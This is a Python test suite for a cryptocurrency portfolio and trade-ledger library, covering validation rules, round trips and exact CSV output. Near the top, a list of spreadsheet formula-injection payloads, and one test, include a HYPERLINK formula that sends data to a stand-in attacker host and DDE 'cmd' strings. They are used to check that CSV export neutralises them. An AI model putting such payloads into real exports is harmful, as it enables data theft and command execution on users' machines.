from __future__ import annotations

import csv
import io
import json
import random
import re
from collections.abc import Callable
from datetime import datetime, timedelta, timezone
from typing import Any

import pytest

from catalog.core.errors import ValidationError
from catalog.core.formats import csv_bytes, format_time, json_bytes
from catalog.cryptorun.ledger import (
    EXECUTION_COLUMNS,
    Portfolio,
    Position,
    Trade,
    executions_rows,
    read_executions,
    validate_trades,
)
from catalog.cryptorun.writer import AtomicWriter

from helpers import runnable_cells

T = datetime(2024, 1, 15, 10, 30, 5, tzinfo=timezone.utc)
NAN = float("nan")
INF = float("inf")
SYMBOLS = ["BTC-USD", "ETH-USD", "SOL-USD", "ADA-USD", "XRP-USD", "DOGE-USD", "DOT-USD", "LINK-USD"]
#: Symbols a spreadsheet would run as formulas if written as they are (OWASP, "CSV Injection").
FORMULA_SYMBOLS = ['=HYPERLINK("http://attacker.invalid/?x="&A1,"BTC-USD")', "@SUM(1+1)*cmd|' /C calc'!A0", "-X",
                   "+1", "＝1+1", "'quoted"]  # fmt: skip


def portfolio_data() -> dict[str, Any]:
    return {
        "timestamp": "2024-01-15T10:30:05Z",
        "positions": [
            {"symbol": "BTC-USD", "quantity": 0.5, "price": 42000.0, "market_value": 21000.0},
            {"symbol": "ETH-USD", "quantity": -2.0, "price": 2500.0, "market_value": -5000.0},
        ],
        "cash": 10000.0,
        "pnl": -125.5,
    }


def trade_data(**changes: Any) -> dict[str, Any]:
    data: dict[str, Any] = {
        "time": T, "symbol": "BTC-USD", "side": "buy", "quantity": 0.5, "price": 42000.0, "fee": 1.25,
        "order_id": "ord-00001",
    }  # fmt: skip
    data.update(changes)
    return data


def refused(fragment: str) -> Any:
    return pytest.raises(ValidationError, match=re.escape(fragment))


# -- portfolio round trips --------------------------------------------------


def _set_time(text: str) -> Callable[[dict[str, Any]], None]:
    return lambda data: data.update(timestamp=text)


ROUND_TRIPS: dict[str, Callable[[dict[str, Any]], None]] = {
    "two-positions": lambda data: None,
    "no-positions": lambda data: data.update(positions=[]),
    "offset-time": _set_time("2024-01-15T12:30:05+02:00"),
    "lowercase-z": _set_time("2024-01-15T10:30:05z"),
    "microseconds": _set_time("2024-01-15T10:30:05.123456Z"),
    "zero-quantity": lambda data: data["positions"][0].update(quantity=0, market_value=0),
    "zero-price": lambda data: data["positions"][0].update(price=0.0, market_value=0.0),
    "ints": lambda data: data.update(
        cash=100, pnl=-3, positions=[{"symbol": "BTC-USD", "quantity": 2, "price": 3, "market_value": 6}]
    ),
    "unicode-symbol": lambda data: data["positions"][0].update(symbol="ÉTH/€"),
}


@pytest.mark.parametrize("change", list(ROUND_TRIPS.values()), ids=list(ROUND_TRIPS))
def test_portfolio_round_trips(change: Callable[[dict[str, Any]], None]) -> None:
    data = portfolio_data()
    change(data)
    portfolio = Portfolio.from_dict(data)
    assert Portfolio.from_dict(portfolio.to_dict()) == portfolio
    assert Portfolio.from_dict(json.loads(json_bytes(portfolio.to_dict()))) == portfolio


def test_portfolio_to_dict_is_plain_data_in_field_order() -> None:
    portfolio = Portfolio.from_dict({**portfolio_data(), "timestamp": "2024-01-15T12:30:05+02:00"})
    data = portfolio.to_dict()
    assert list(data) == ["timestamp", "positions", "cash", "pnl"]
    assert data["timestamp"] == "2024-01-15T10:30:05Z"
    assert data["positions"] == portfolio_data()["positions"]
    assert [list(item) for item in data["positions"]] == [["symbol", "quantity", "price", "market_value"]] * 2
    assert portfolio.timestamp == T and portfolio.timestamp.tzinfo == timezone.utc
    assert isinstance(portfolio.positions, tuple)


def test_portfolio_constructed_directly_equals_from_dict() -> None:
    positions = [Position("BTC-USD", 0.5, 42000.0, 21000.0), Position("ETH-USD", -2.0, 2500.0, -5000.0)]
    direct = Portfolio(T, positions, 10000.0, -125.5)  # type: ignore[arg-type]  # a list becomes a tuple
    assert direct == Portfolio.from_dict(portfolio_data())
    assert direct.positions == tuple(positions)
    hash(direct)


# -- portfolio rules --------------------------------------------------------


def _pos(index: int, **changes: Any) -> Callable[[dict[str, Any]], None]:
    return lambda data: data["positions"][index].update(changes)


def _top(**changes: Any) -> Callable[[dict[str, Any]], None]:
    return lambda data: data.update(changes)


PORTFOLIO_RULES: dict[str, tuple[Callable[[dict[str, Any]], None], str]] = {
    "naive-timestamp": (
        _top(timestamp="2024-01-15T10:30:05"), "portfolio: timestamp '2024-01-15T10:30:05' has no time zone"
    ),
    "date-only": (_top(timestamp="2024-01-15"), "portfolio: timestamp '2024-01-15' has no time zone"),
    "not-a-time": (_top(timestamp="yesterday"), "portfolio: timestamp 'yesterday' is not a time"),
    "timestamp-not-text": (_top(timestamp=1705314605), "portfolio: timestamp must be a datetime, not int"),
    "empty-symbol": (_pos(0, symbol=""), "portfolio position 1: symbol is empty"),
    "blank-symbol": (_pos(0, symbol="   "), "portfolio position 1: symbol is empty"),
    "newline-symbol": (_pos(1, symbol="ETH\nUSD"), "portfolio position 2: symbol 'ETH\\nUSD' contains a control"),
    "nul-symbol": (_pos(0, symbol="BTC\x00"), "symbol 'BTC\\x00' contains a control character"),
    "del-symbol": (_pos(0, symbol="BTC\x7f"), "contains a control character"),
    "surrogate-symbol": (_pos(0, symbol="BTC\ud800"), "contains a lone surrogate"),
    "symbol-not-text": (_pos(0, symbol=7), "portfolio position 1: symbol must be text, not int"),
    "quantity-not-number": (_pos(0, quantity="0.5"), "portfolio position 1 (BTC-USD): quantity must be a number"),
    "nan-quantity": (_pos(0, quantity=NAN), "portfolio position 1 (BTC-USD): quantity is not a finite number (nan)"),
    "negative-price": (
        _pos(1, price=-3.0, market_value=6.0), "portfolio position 2 (ETH-USD): price -3.0 is negative"
    ),
    "inf-price": (_pos(1, price=INF), "portfolio position 2 (ETH-USD): price is not a finite number (inf)"),
    "market-value-mismatch": (
        _pos(0, market_value=21000.1), "portfolio position 1 (BTC-USD): market_value 21000.1 is not quantity * price"
    ),
    "market-value-sign": (_pos(1, market_value=5000.0), "market_value 5000.0 is not quantity * price (-5000.0)"),
    "nan-market-value": (_pos(0, market_value=NAN), "market_value is not a finite number (nan)"),
    "nan-cash": (_top(cash=NAN), "portfolio: cash is not a finite number (nan)"),
    "inf-pnl": (_top(pnl=-INF), "portfolio: pnl is not a finite number (-inf)"),
    "huge-int-cash": (_top(cash=10**400), "portfolio: cash is not a finite number"),
    "duplicate-symbol": (
        _pos(1, symbol="BTC-USD"), "portfolio position 2 (BTC-USD): duplicate symbol; also position 1"
    ),
    "missing-field": (lambda data: data.pop("cash"), "portfolio: missing cash"),
    "unknown-field": (_top(fees=0.0), "portfolio: unknown field 'fees'"),
    "position-missing-field": (
        lambda data: data["positions"][0].pop("market_value"), "portfolio position 1: missing market_value"
    ),
    "position-unknown-field": (_pos(0, side="long"), "portfolio position 1: unknown field 'side'"),
    "position-not-object": (_top(positions=[["BTC-USD", 1, 1, 1]]), "portfolio position 1 must be an object"),
    "positions-not-list": (_top(positions={}), "portfolio: positions must be a list, not dict"),
}


@pytest.mark.parametrize(("change", "fragment"), list(PORTFOLIO_RULES.values()), ids=list(PORTFOLIO_RULES))
def test_portfolio_rules_are_enforced(change: Callable[[dict[str, Any]], None], fragment: str) -> None:
    data = portfolio_data()
    change(data)
    with refused(fragment):
        Portfolio.from_dict(data)


@pytest.mark.parametrize("data", [None, [], "portfolio", 3], ids=["none", "list", "text", "int"])
def test_portfolio_data_must_be_an_object(data: Any) -> None:
    with refused("portfolio must be an object with timestamp, positions, cash, pnl"):
        Portfolio.from_dict(data)


MARKET_VALUES = {
    "exact": (0.5, 42000.0, 21000.0, True),
    "float-rounding": (3, 0.1, 0.3, True),
    "within-1e-9-relative": (0.5, 42000.0, 21000.0 * (1 + 5e-10), True),
    "outside-1e-9-relative": (0.5, 42000.0, 21000.0 * (1 + 1e-8), False),
    "zero-within-1e-9-absolute": (0.0, 100.0, 5e-10, True),
    "zero-outside-1e-9-absolute": (0.0, 100.0, 1e-8, False),
    "short-position": (-2.0, 2500.0, -5000.0, True),
}


@pytest.mark.parametrize(
    ("quantity", "price", "market_value", "ok"), list(MARKET_VALUES.values()), ids=list(MARKET_VALUES)
)
def test_market_value_tolerance(quantity: float, price: float, market_value: float, ok: bool) -> None:
    if ok:
        assert Position("BTC-USD", quantity, price, market_value).market_value == market_value
    else:
        with refused("position (BTC-USD): market_value"):
            Position("BTC-USD", quantity, price, market_value)


def test_constructing_a_bad_position_raises() -> None:
    with refused("position (ETH-USD): price -3.0 is negative"):
        Position("ETH-USD", 1.0, -3.0, -3.0)


def test_constructing_a_bad_portfolio_raises() -> None:
    with refused("portfolio: timestamp has no time zone"):
        Portfolio(datetime(2024, 1, 15), (), 0.0, 0.0)
    with refused("portfolio position 1 is a dict, not a Position"):
        Portfolio(T, ({"symbol": "BTC-USD"},), 0.0, 0.0)  # type: ignore[arg-type]
    with refused("portfolio position 2 (BTC-USD): duplicate symbol; also position 1"):
        Portfolio(T, (Position("BTC-USD", 1, 1, 1), Position("BTC-USD", 2, 1, 2)), 0.0, 0.0)
    with refused("portfolio: cash must be a number, not str"):
        Portfolio(T, (), "100", 0.0)  # type: ignore[arg-type]


def test_timestamps_are_kept_in_utc() -> None:
    plus_two = timezone(timedelta(hours=2))
    portfolio = Portfolio(datetime(2024, 1, 15, 12, 30, 5, tzinfo=plus_two), (), 0.0, 0.0)
    assert portfolio.timestamp == T and portfolio.timestamp.tzinfo == timezone.utc


# -- numbers: ints accepted as floats, bools / NaN / inf refused ------------


def test_ints_are_accepted_and_stored_as_floats() -> None:
    position = Position("BTC-USD", 2, 3, 6)
    portfolio = Portfolio(T, (position,), 100, -5)
    trade = Trade(T, "BTC-USD", "sell", 2, 3, 0, "ord-1")
    values = [position.quantity, position.price, position.market_value, portfolio.cash, portfolio.pnl]
    values += [trade.quantity, trade.price, trade.fee]
    assert all(type(value) is float for value in values)
    assert position == Position("BTC-USD", 2.0, 3.0, 6.0)
    assert trade == Trade(T, "BTC-USD", "sell", 2.0, 3.0, 0.0, "ord-1")


def test_whole_numbers_a_float_would_round_stay_exact() -> None:
    big = 2**64 - 1  # float(big) is 18446744073709551616.0
    trade = Trade(T, "BTC-USD", "buy", big, 2**53 + 1, 2**53, "ord-1")
    assert (trade.quantity, trade.price, trade.fee) == (big, 2**53 + 1, 2**53)
    assert (type(trade.quantity), type(trade.price), type(trade.fee)) == (int, int, float)  # 2**53: a float holds it
    assert Position("BTC-USD", big, 1, big).quantity == big
    assert Trade.from_dict(trade_data(quantity=str(big))).quantity == big  # as read from CSV
    with refused("quantity is not a finite number"):
        Trade.from_dict(trade_data(quantity="9" * 400))  # beyond any float
    with refused("quantity is not a finite number"):
        Trade.from_dict(trade_data(quantity="9" * 5000))  # beyond Python's digit limit too


NUMBER_FIELDS: dict[str, Callable[[Any], object]] = {
    "position-quantity": lambda v: Position("BTC-USD", v, 1.0, 1.0),
    "position-price": lambda v: Position("BTC-USD", 1.0, v, 1.0),
    "position-market_value": lambda v: Position("BTC-USD", 1.0, 1.0, v),
    "portfolio-cash": lambda v: Portfolio(T, (), v, 0.0),
    "portfolio-pnl": lambda v: Portfolio(T, (), 0.0, v),
    "trade-quantity": lambda v: Trade(T, "BTC-USD", "buy", v, 1.0, 0.0, "o1"),
    "trade-price": lambda v: Trade(T, "BTC-USD", "buy", 1.0, v, 0.0, "o1"),
    "trade-fee": lambda v: Trade(T, "BTC-USD", "buy", 1.0, 1.0, v, "o1"),
}


@pytest.mark.parametrize("build", list(NUMBER_FIELDS.values()), ids=list(NUMBER_FIELDS))
@pytest.mark.parametrize("value", [True, False], ids=["true", "false"])
def test_bools_are_not_numbers(build: Callable[[Any], object], value: bool) -> None:
    with refused("must be a number, not bool"):
        build(value)


@pytest.mark.parametrize("build", list(NUMBER_FIELDS.values()), ids=list(NUMBER_FIELDS))
@pytest.mark.parametrize("value", [NAN, INF, -INF], ids=["nan", "inf", "-inf"])
def test_non_finite_numbers_are_refused(build: Callable[[Any], object], value: float) -> None:
    with refused(f"is not a finite number ({value})"):
        build(value)


def test_naive_datetimes_are_refused() -> None:
    with refused("portfolio: timestamp has no time zone"):
        Portfolio(datetime(2024, 1, 15, 10, 30), (), 0.0, 0.0)
    with refused("execution (order o1): time has no time zone"):
        Trade(datetime(2024, 1, 15, 10, 30), "BTC-USD", "buy", 1.0, 1.0, 0.0, "o1")
    with refused("execution: time '2024-01-15 10:30:05' has no time zone"):
        Trade.from_dict(trade_data(time="2024-01-15 10:30:05"))


# -- trades -----------------------------------------------------------------


def test_trade_from_csv_text_equals_native() -> None:
    text = {
        "time": "2024-01-15T10:30:05Z", "symbol": "BTC-USD", "side": "buy", "quantity": "0.5", "price": "42000",
        "fee": "1.25", "order_id": "ord-00001",
    }  # fmt: skip
    assert Trade.from_dict(text) == Trade.from_dict(trade_data())


@pytest.mark.parametrize(
    ("text", "value"),
    [("0.5", 0.5), ("42000", 42000.0), (" 2 ", 2.0), ("+3.25", 3.25), (".5", 0.5), ("1e-3", 0.001), ("7.", 7.0)],
    ids=["decimal", "integer", "padded", "plus", "leading-dot", "exponent", "trailing-dot"],
)
def test_trade_accepts_numbers_written_as_text(text: str, value: float) -> None:
    assert Trade.from_dict(trade_data(quantity=text)).quantity == value


@pytest.mark.parametrize(
    "text", ["", "abc", "nan", "inf", "-Infinity", "1_000", "0x10", "1,5", "½"],
    ids=["empty", "word", "nan", "inf", "infinity", "underscore", "hex", "comma", "vulgar-fraction"],
)  # fmt: skip
def test_trade_refuses_text_that_is_not_a_decimal_number(text: str) -> None:
    with refused(f"execution: quantity {text!r} is not a number"):
        Trade.from_dict(trade_data(quantity=text))


def test_trade_refuses_text_that_overflows() -> None:
    with refused("execution (order ord-00001): price is not a finite number (inf)"):
        Trade.from_dict(trade_data(price="1e999"))


def test_trade_round_trips_through_its_row() -> None:
    trade = Trade.from_dict(trade_data(time="2024-01-15T12:30:05.5+02:00"))
    row = trade.to_row()
    assert row == [T + timedelta(microseconds=500000), "BTC-USD", "buy", 0.5, 42000.0, 1.25, "ord-00001"]
    assert row[0].tzinfo == timezone.utc
    assert Trade.from_dict(dict(zip(EXECUTION_COLUMNS, row))) == trade


def _row(index: int, **changes: Any) -> Callable[[list[dict[str, Any]]], None]:
    return lambda rows: rows[index].update(changes)


def seven_rows() -> list[dict[str, Any]]:
    return [trade_data(order_id=f"ord-{n:05d}", side="buy" if n % 2 else "sell") for n in range(1, 8)]


TRADE_RULES: dict[str, tuple[Callable[[list[dict[str, Any]]], None], str]] = {
    "unknown-side": (_row(6, side="hold"), "execution row 7 (order ord-00007): unknown side 'hold'; use buy or sell"),
    "uppercase-side": (_row(0, side="BUY"), "execution row 1 (order ord-00001): unknown side 'BUY'"),
    "side-not-text": (_row(0, side=1), "execution row 1 (order ord-00001): unknown side 1"),
    "zero-quantity": (_row(1, quantity=0), "execution row 2 (order ord-00002): quantity 0.0 is not positive"),
    "negative-quantity": (_row(1, quantity="-1"), "execution row 2 (order ord-00002): quantity -1.0 is not positive"),
    "nan-quantity": (_row(1, quantity=NAN), "execution row 2 (order ord-00002): quantity is not a finite number"),
    "negative-price": (_row(2, price=-3.0), "execution row 3 (order ord-00003): price -3.0 is negative"),
    "inf-price": (_row(2, price=INF), "execution row 3 (order ord-00003): price is not a finite number (inf)"),
    "negative-fee": (_row(3, fee="-0.01"), "execution row 4 (order ord-00004): fee -0.01 is negative"),
    "nan-fee": (_row(3, fee=NAN), "execution row 4 (order ord-00004): fee is not a finite number (nan)"),
    "empty-order-id": (_row(4, order_id=""), "execution row 5: order_id is empty"),
    "control-order-id": (_row(4, order_id="ord\t5"), "execution row 5: order_id 'ord\\t5' contains a control"),
    "order-id-not-text": (_row(4, order_id=5), "execution row 5: order_id must be text, not int"),
    "empty-symbol": (_row(5, symbol=""), "execution row 6 (order ord-00006): symbol is empty"),
    "control-symbol": (_row(5, symbol="BTC\r"), "execution row 6 (order ord-00006): symbol 'BTC\\r' contains"),
    "naive-time": (_row(0, time=datetime(2024, 1, 15)), "execution row 1 (order ord-00001): time has no time zone"),
    "naive-time-text": (_row(0, time="2024-01-15T10:30:05"), "execution row 1: time '2024-01-15T10:30:05' has no"),
    "not-a-time": (_row(0, time="soon"), "execution row 1: time 'soon' is not a time"),
    "duplicate-order-id": (
        _row(5, order_id="ord-00002"), "execution row 6 (order ord-00002): duplicate order_id; also row 2"
    ),
    "missing-column": (lambda rows: rows[0].pop("fee"), "execution row 1: missing fee"),
    "unknown-column": (_row(0, venue="kraken"), "execution row 1: unknown field 'venue'"),
    "csv-extra-cells": (lambda rows: rows[0].update({None: ["x"]}), "execution row 1: unknown field None"),
}  # fmt: skip


@pytest.mark.parametrize(("change", "fragment"), list(TRADE_RULES.values()), ids=list(TRADE_RULES))
def test_trade_rules_are_enforced_with_the_row_number(
    change: Callable[[list[dict[str, Any]]], None], fragment: str
) -> None:
    rows = seven_rows()
    change(rows)
    with refused(fragment):
        validate_trades(rows)


def test_constructing_a_bad_trade_raises() -> None:
    with refused("execution (order o1): unknown side 'hold'; use buy or sell"):
        Trade(T, "BTC-USD", "hold", 1.0, 1.0, 0.0, "o1")


def test_duplicate_order_ids_among_trade_objects() -> None:
    first = Trade.from_dict(trade_data())
    with refused("execution row 3 (order ord-00001): duplicate order_id; also row 1"):
        validate_trades([first, trade_data(order_id="ord-00002"), first])


def test_validate_trades_mixes_objects_and_mappings() -> None:
    trades = validate_trades([Trade.from_dict(trade_data()), trade_data(order_id="ord-00002")])
    assert [trade.order_id for trade in trades] == ["ord-00001", "ord-00002"]
    assert all(isinstance(trade, Trade) for trade in trades)


@pytest.mark.parametrize("item", [["BTC-USD"], "ord-1", None], ids=["list", "text", "none"])
def test_validate_trades_refuses_other_items(item: Any) -> None:
    with refused(f"execution row 2 is a {type(item).__name__}, not a trade"):
        validate_trades([trade_data(), item])


def test_executions_rows_is_header_and_rows() -> None:
    rows = executions_rows(seven_rows()[:2])
    assert rows[0] == ["time", "symbol", "side", "quantity", "price", "fee", "order_id"]
    assert rows[1:] == [Trade.from_dict(data).to_row() for data in seven_rows()[:2]]
    assert executions_rows([]) == [list(EXECUTION_COLUMNS)]


def test_executions_csv_reads_back_as_the_same_trades() -> None:
    trades = validate_trades(seven_rows())
    data = csv_bytes(executions_rows(trades))
    assert data.startswith(b"time,symbol,side,quantity,price,fee,order_id\n2024-01-15T10:30:05Z,BTC-USD,buy,")
    assert validate_trades(csv.DictReader(io.StringIO(data.decode("utf-8")))) == trades


def test_write_executions_keeps_crypto_amounts_exact(writer: AtomicWriter, base_dir: Any) -> None:
    """Issue 14, case 1: a satoshi and a SHIB-BTC price were written as 0.000000 and could not be read back."""
    trades = [
        trade_data(quantity=0.00000001, fee=0.0),
        trade_data(order_id="ord-00002", symbol="SHIB-BTC", quantity=1e9, price=0.00000000031, fee=0.1 + 0.2),
        trade_data(order_id="ord-00003", quantity=2**64 - 1, price=1e-300, fee=5e-324),
    ]
    record = writer.write_executions("trades", trades)
    data = (base_dir / record.path).read_bytes()
    assert b",0.00000001,42000.000000,0.000000," in data and b",0.00000000031,0.30000000000000004," in data
    assert b",18446744073709551615," in data
    again = read_executions(data)
    assert again == validate_trades(trades) and again[2].quantity == 2**64 - 1


@pytest.mark.parametrize("symbol", FORMULA_SYMBOLS)
def test_formula_text_in_an_execution_log_never_runs_and_reads_back(writer: AtomicWriter, base_dir: Any, symbol: str) -> None:
    trades = validate_trades([trade_data(symbol=symbol, order_id="-1+cmd|' /C calc'!A0")])
    data = (base_dir / writer.write_executions("trades", trades).path).read_bytes()
    assert runnable_cells(data) == []
    assert read_executions(data) == trades


def test_read_executions_refuses_a_header_that_is_not_the_columns() -> None:
    with refused("execution row 1: missing fee"):
        read_executions(b"time,symbol,side,quantity,price,order_id\n2024-01-15T10:30:05Z,BTC,buy,1,1,o1\n")
    with refused("execution log row 1 has 2 cells; the header has 7"):
        read_executions(csv_bytes([list(EXECUTION_COLUMNS), ["a", "b"]]))


def test_executions_rows_refuses_bad_trades() -> None:
    with refused("execution row 2 (order ord-00002): fee -1.0 is negative"):
        executions_rows([trade_data(), trade_data(order_id="ord-00002", fee=-1)])


# -- property-style: generated valid data validates, round-trips, and every kind of mutation is refused


def random_portfolio(rng: random.Random) -> dict[str, Any]:
    positions = []
    for symbol in rng.sample(SYMBOLS, rng.randint(0, 6)):
        quantity = rng.choice([rng.uniform(-1e4, 1e4), rng.randint(-100, 100), 0.0, rng.uniform(0, 1e-6)])
        price = rng.choice([rng.uniform(0, 1e5), rng.randint(0, 1000), 0.0, rng.uniform(0, 1e-4)])
        positions.append({"symbol": symbol, "quantity": quantity, "price": price, "market_value": quantity * price})
    moment = datetime(2020, 1, 1, tzinfo=timezone.utc) + timedelta(
        seconds=rng.randint(0, 10**8), microseconds=rng.choice([0, rng.randint(0, 999_999)])
    )
    zone = timezone(timedelta(minutes=15 * rng.randint(-48, 56)))
    timestamp = rng.choice([format_time(moment), moment.astimezone(zone).isoformat()])
    cash = rng.choice([rng.uniform(-1e6, 1e6), rng.randint(0, 10**6), 0.0])
    return {"timestamp": timestamp, "positions": positions, "cash": cash, "pnl": rng.uniform(-1e5, 1e5)}


def _any_position(rng: random.Random, data: dict[str, Any]) -> dict[str, Any]:
    if not data["positions"]:
        data["positions"].append({"symbol": "BTC-USD", "quantity": 1.0, "price": 1.0, "market_value": 1.0})
    position: dict[str, Any] = rng.choice(data["positions"])
    return position


def _with_control(rng: random.Random, text: str) -> str:
    index = rng.randint(0, len(text))
    return text[:index] + rng.choice(["\x00", "\n", "\t", "\x1b", "\x7f", "\x85"]) + text[index:]


def _negative_price(rng: random.Random, data: dict[str, Any]) -> None:
    position = _any_position(rng, data)
    position["price"] = -rng.uniform(1e-6, 1e5)
    position["market_value"] = position["quantity"] * position["price"]


def _off_market_value(rng: random.Random, data: dict[str, Any]) -> None:
    position = _any_position(rng, data)
    position["market_value"] += rng.choice([1, -1]) * max(1.0, abs(position["market_value"])) * 1e-6


def _duplicate_symbol(rng: random.Random, data: dict[str, Any]) -> None:
    data["positions"].append(dict(_any_position(rng, data)))


Mutation = Callable[[random.Random, dict[str, Any]], None]


def _control_symbol(rng: random.Random, data: dict[str, Any]) -> None:
    position = _any_position(rng, data)
    position["symbol"] = _with_control(rng, position["symbol"])


def _number_field(values: list[Any]) -> Mutation:
    fields = ["quantity", "price", "market_value"]
    return lambda rng, data: _any_position(rng, data).update({rng.choice(fields): rng.choice(values)})


PORTFOLIO_MUTATIONS: dict[str, tuple[Mutation, str]] = {
    "naive-timestamp": (lambda rng, data: data.update(timestamp=data["timestamp"][:19]), "has no time zone"),
    "empty-symbol": (
        lambda rng, data: _any_position(rng, data).update(symbol=rng.choice(["", " ", "\u3000"])), "symbol is empty"
    ),
    "control-symbol": (_control_symbol, "contains a control character"),
    "non-finite-number": (_number_field([NAN, INF, -INF]), "is not a finite number"),
    "non-finite-cash-or-pnl": (
        lambda rng, data: data.update({rng.choice(["cash", "pnl"]): rng.choice([NAN, INF])}),
        "is not a finite number",
    ),
    "bool-number": (_number_field([True, False]), "must be a number, not bool"),
    "negative-price": (_negative_price, "is negative"),
    "market-value-mismatch": (_off_market_value, "is not quantity * price"),
    "duplicate-symbol": (_duplicate_symbol, "duplicate symbol"),
}


def test_generated_portfolios_validate_round_trip_and_refuse_every_mutation() -> None:
    rng = random.Random(20240115)
    for _ in range(200):
        data = random_portfolio(rng)
        portfolio = Portfolio.from_dict(data)
        assert Portfolio.from_dict(portfolio.to_dict()) == portfolio
        assert Portfolio.from_dict(json.loads(json_bytes(portfolio.to_dict()))) == portfolio
        for name, (mutate, fragment) in PORTFOLIO_MUTATIONS.items():
            bad = json.loads(json.dumps(data))
            mutate(rng, bad)
            with pytest.raises(ValidationError) as caught:
                Portfolio.from_dict(bad)
            assert fragment in str(caught.value), (name, bad)


def random_trades(rng: random.Random) -> list[Trade]:
    start = datetime(2020, 1, 1, tzinfo=timezone.utc) + timedelta(seconds=rng.randint(0, 10**8))
    trades = []
    for number in rng.sample(range(1, 100_000), rng.randint(1, 20)):
        trades.append(
            Trade(
                time=start + timedelta(microseconds=rng.randint(0, 10**10)),
                symbol=rng.choice(SYMBOLS + FORMULA_SYMBOLS),
                side=rng.choice(["buy", "sell"]),
                quantity=rng.choice([rng.uniform(1e-8, 1e3), rng.randint(1, 100), rng.uniform(0, 1e-8) or 1e-8,
                                     rng.randint(2**53, 2**70)]),  # fmt: skip
                price=rng.choice([rng.uniform(0, 1e5), rng.randint(0, 1000), 0.0, rng.uniform(0, 1e-9)]),
                fee=rng.choice([rng.uniform(0, 10), 0]),
                order_id=f"ord-{number:05d}",
            )
        )
    return trades


def as_text(trade: Trade) -> dict[str, str]:
    """A trade as csv.DictReader would give it, with exact number text."""
    return {
        name: format_time(value) if isinstance(value, datetime) else value if isinstance(value, str) else repr(value)
        for name, value in zip(EXECUTION_COLUMNS, trade.to_row())
    }


TRADE_MUTATIONS: dict[str, tuple[str, Callable[[random.Random, dict[str, Any]], Any], str]] = {
    "unknown-side": ("side", lambda rng, row: rng.choice(["hold", "BUY", "short", "", None]), "unknown side"),
    "non-positive-quantity": (
        "quantity", lambda rng, row: rng.choice(["0", "-0", repr(-rng.uniform(0, 1e3)), 0]), "is not positive"
    ),
    "non-finite-number": ("quantity", lambda rng, row: rng.choice([NAN, INF, -INF, "1e400"]), "not a finite number"),
    "negative-price": ("price", lambda rng, row: repr(-rng.uniform(1e-6, 1e5)), "is negative"),
    "negative-fee": ("fee", lambda rng, row: rng.choice([-0.01, repr(-rng.uniform(1e-6, 10))]), "is negative"),
    "bool-number": ("fee", lambda rng, row: rng.choice([True, False]), "must be a number, not bool"),
    "empty-order-id": ("order_id", lambda rng, row: rng.choice(["", "  "]), "order_id is empty"),
    "control-order-id": ("order_id", lambda rng, row: _with_control(rng, row["order_id"]), "control character"),
    "control-symbol": ("symbol", lambda rng, row: _with_control(rng, row["symbol"]), "control character"),
    "naive-time": ("time", lambda rng, row: row["time"].rstrip("Z"), "has no time zone"),
}  # fmt: skip


def test_generated_trade_logs_validate_round_trip_and_refuse_every_mutation() -> None:
    rng = random.Random(7)
    for _ in range(200):
        trades = random_trades(rng)
        rows = [as_text(trade) for trade in trades]
        assert validate_trades(rows) == trades
        assert validate_trades([dict(zip(EXECUTION_COLUMNS, trade.to_row())) for trade in trades]) == trades
        assert executions_rows(trades)[1:] == [trade.to_row() for trade in trades]
        written = csv_bytes(executions_rows(trades), rng.randrange(18))  # any csv_precision
        assert read_executions(written) == trades and runnable_cells(written) == []
        for name, (column, bad_value, fragment) in TRADE_MUTATIONS.items():
            index = rng.randrange(len(rows))
            bad = [dict(row) for row in rows]
            bad[index][column] = bad_value(rng, bad[index])
            with pytest.raises(ValidationError) as caught:
                validate_trades(bad)
            message = str(caught.value)
            assert re.match(rf"execution row {index + 1}\b", message) and fragment in message, (name, message)
        if len(rows) > 1:
            first, second = sorted(rng.sample(range(len(rows)), 2))
            bad = [dict(row) for row in rows]
            bad[second]["order_id"] = bad[first]["order_id"]
            with refused(f"execution row {second + 1} (order {bad[first]['order_id']}): duplicate order_id"):
                validate_trades(bad)
